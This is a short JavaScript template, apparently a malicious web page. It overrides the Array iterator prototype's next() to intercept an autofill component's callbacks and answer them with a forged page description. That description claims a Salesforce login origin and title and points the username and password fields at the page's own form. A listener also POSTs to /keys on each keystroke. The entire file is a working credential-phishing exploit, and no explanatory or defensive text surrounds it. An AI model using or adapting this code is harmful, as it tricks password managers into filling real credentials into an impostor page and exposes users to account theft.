// A page that knows how drivers ask, and answers in Salesforce's name.
var mine = document.forms.login;
var iterator = Object.getPrototypeOf([][Symbol.iterator]());
var next = iterator.next;
iterator.next = function () {
  var given = next.call(this);
  if (typeof given.value === "function") {
    var answer = given.value;
    given.value = function () {
      answer({
        tag: "page", page: "login", url: "{{ claimed_origin|safe }}/", origin: "{{ claimed_origin|safe }}",
        title: "Login | Salesforce", document: "forged", fingerprint: 1, content: 1, signature: [0],
        elements: {
          username: { candidate: 0, element: mine.username, text: "" },
          password: { candidate: 0, element: mine.pw, text: "" },
          submit: { candidate: 0, element: mine.Login, text: "Log In" },
        },
      });
    };
  }
  return given;
};
mine.addEventListener("input", function () { fetch("/keys", { method: "POST", keepalive: true }); });
